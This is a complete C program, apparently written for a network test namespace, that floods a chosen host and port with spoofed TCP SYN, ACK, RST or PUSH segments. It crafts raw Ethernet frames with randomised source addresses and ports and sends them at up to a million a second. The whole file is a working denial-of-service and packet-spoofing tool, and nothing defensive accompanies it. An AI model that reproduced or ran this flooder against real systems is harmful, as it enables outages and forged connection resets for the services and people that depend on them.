/*
 * flood.c - frames an attacker sends: spoofed SYNs, ACKs, or RSTs into the tuples of others. It ends by itself.
 *
 * usage: flood KIND DEVICE TO-MAC TO-ADDRESS PORT FROM-PREFIX SECONDS RATE [SEED]
 *        KIND: syn, ack, rst, push (an ACK with one octet). FROM-PREFIX: an address whose last 16 bits are drawn anew for each frame (IPv4), or
 *        whose last 64 bits are (IPv6); the source port always is. RATE: frames a second, at most 1,000,000; SECONDS at most 600.
 *
 * Touches: one device of the namespace it runs in.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define FRAME_MAX_OCTETS 128
#define RATE_MAX         1000000
#define SECONDS_MAX      600

static uint64_t seed = 1;

static uint32_t
draw(void)
{
	seed = seed * UINT64_C(6364136223846793005) + UINT64_C(1442695040888963407);
	return (uint32_t)(seed >> 32);
}

static void
put16(uint8_t *p, uint32_t v)
{
	p[0] = (uint8_t)(v >> 8);
	p[1] = (uint8_t)v;
}

static void
put32(uint8_t *p, uint32_t v)
{
	put16(p, v >> 16);
	put16(p + 2, v);
}

static uint32_t
sum_of(const uint8_t *p, size_t n, uint32_t sum)
{
	for (size_t i = 0; i < n; i++)
		sum += i % 2 == 0 ? (uint32_t)p[i] << 8 : p[i];
	while (sum >> 16 != 0)
		sum = (sum & 0xffff) + (sum >> 16);
	return sum;
}

struct target {
	uint8_t from_mac[6], to_mac[6], from[16], to[16];
	bool v6;
	uint16_t port;
	uint8_t flags;
	uint32_t text_octets;
};

/* One frame of fresh numbers in out; its octets. */
static size_t
build(const struct target *t, uint8_t *out)
{
	const bool syn = (t->flags & 2) != 0;
	const size_t address = t->v6 ? 16 : 4, head = t->v6 ? 40 : 20, options = syn ? 4 : 0;
	const size_t len = 20 + options + t->text_octets;
	uint8_t *ip = out + 14, *tcp = ip + head, from[16];
	uint32_t sum;

	memcpy(from, t->from, 16);
	for (size_t i = t->v6 ? 8 : 2; i < address; i++)
		from[i] = (uint8_t)draw();
	if (!t->v6 && (from[3] == 0 || from[3] == 255))
		from[3] = 1;
	memcpy(out, t->to_mac, 6);
	memcpy(out + 6, t->from_mac, 6);
	put16(out + 12, t->v6 ? 0x86dd : 0x0800);
	memset(ip, 0, head + len);
	if (t->v6) {
		ip[0] = 0x60;
		put16(ip + 4, (uint32_t)len);
		ip[6] = 6;
		ip[7] = 64;
		memcpy(ip + 8, from, 16);
		memcpy(ip + 24, t->to, 16);
	} else {
		ip[0] = 0x45;
		put16(ip + 2, (uint32_t)(head + len));
		put16(ip + 4, draw());
		ip[6] = 0x40;
		ip[8] = 64;
		ip[9] = 6;
		memcpy(ip + 12, from, 4);
		memcpy(ip + 16, t->to, 4);
		put16(ip + 10, ~sum_of(ip, 20, 0));
	}
	put16(tcp, 1024 + draw() % 64000);
	put16(tcp + 2, t->port);
	put32(tcp + 4, draw());
	put32(tcp + 8, (t->flags & 16) != 0 ? draw() : 0);
	tcp[12] = (uint8_t)((20 + options) / 4 << 4);
	tcp[13] = t->flags;
	put16(tcp + 14, 65535);
	if (syn) {
		tcp[20] = 2;
		tcp[21] = 4;
		put16(tcp + 22, 1460);
	}
	sum = sum_of(from, address, 0);
	sum = sum_of(t->to, address, sum) + 6 + (uint32_t)len;
	put16(tcp + 16, ~sum_of(tcp, len, sum));
	return 14 + head + len;
}

static int
open_device(const char *name, uint8_t mac[6])
{
	const unsigned index = if_nametoindex(name);
	struct sockaddr_ll to = { .sll_family = AF_PACKET, .sll_protocol = 0, .sll_ifindex = (int)index };
	struct ifreq req = { 0 };
	const int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);

	snprintf(req.ifr_name, sizeof(req.ifr_name), "%s", name);
	if (index == 0 || fd < 0 || bind(fd, (struct sockaddr *)&to, sizeof(to)) != 0 ||
		ioctl(fd, SIOCGIFHWADDR, &req) != 0) {
		fprintf(stderr, "flood: %s: %s\n", name, strerror(errno));
		exit(2);
	}
	memcpy(mac, req.ifr_hwaddr.sa_data, 6);
	return fd;
}

static double
now_s(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

int
main(int argc, char **argv)
{
	static const struct {
		const char *name;
		uint8_t flags;
		uint32_t text_octets;
	} kinds[] = { { "syn", 2, 0 }, { "ack", 16, 0 }, { "rst", 4, 0 }, { "push", 24, 1 } };
	struct target t = { 0 };
	uint64_t sent = 0, refused = 0;
	double begin, seconds, rate;
	int fd;
	size_t kind = 0;

	while (argc >= 9 && kind < 4 && strcmp(argv[1], kinds[kind].name) != 0)
		kind++;
	if (argc < 9 || kind == 4 ||
		sscanf(argv[3], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &t.to_mac[0], &t.to_mac[1], &t.to_mac[2], &t.to_mac[3],
			&t.to_mac[4], &t.to_mac[5]) != 6) {
		fprintf(stderr,
			"usage: %s syn|ack|rst|push DEVICE TO-MAC TO-ADDRESS PORT FROM-PREFIX SECONDS RATE [SEED]\n",
			argv[0]);
		return 2;
	}
	t.flags = kinds[kind].flags;
	t.text_octets = kinds[kind].text_octets;
	t.v6 = strchr(argv[4], ':') != NULL;
	t.port = (uint16_t)atoi(argv[5]);
	seconds = atof(argv[7]);
	rate = atof(argv[8]);
	if (inet_pton(t.v6 ? AF_INET6 : AF_INET, argv[4], t.to) != 1 ||
		inet_pton(t.v6 ? AF_INET6 : AF_INET, argv[6], t.from) != 1 ||
		!(seconds > 0 && seconds <= SECONDS_MAX) || !(rate > 0 && rate <= RATE_MAX)) {
		fprintf(stderr, "flood: addresses of one family, up to %d s, up to %d frames a second\n", SECONDS_MAX,
			RATE_MAX);
		return 2;
	}
	if (argc > 9)
		seed = strtoull(argv[9], NULL, 10);
	fd = open_device(argv[2], t.from_mac);
	begin = now_s();
	for (double at = 0; at < seconds; at = now_s() - begin) {
		while ((double)(sent + refused) < at * rate) {
			uint8_t frame[FRAME_MAX_OCTETS];
			const size_t n = build(&t, frame);

			if (send(fd, frame, n, MSG_DONTWAIT) == (ssize_t)n)
				sent++;
			else
				refused++;
			if ((sent + refused) % 64 == 0 && now_s() - begin >= seconds)
				break;
		}
		usleep(1000);
	}
	printf("{\"sent\": %llu, \"refused\": %llu}\n", (unsigned long long)sent, (unsigned long long)refused);
	return 0;
}
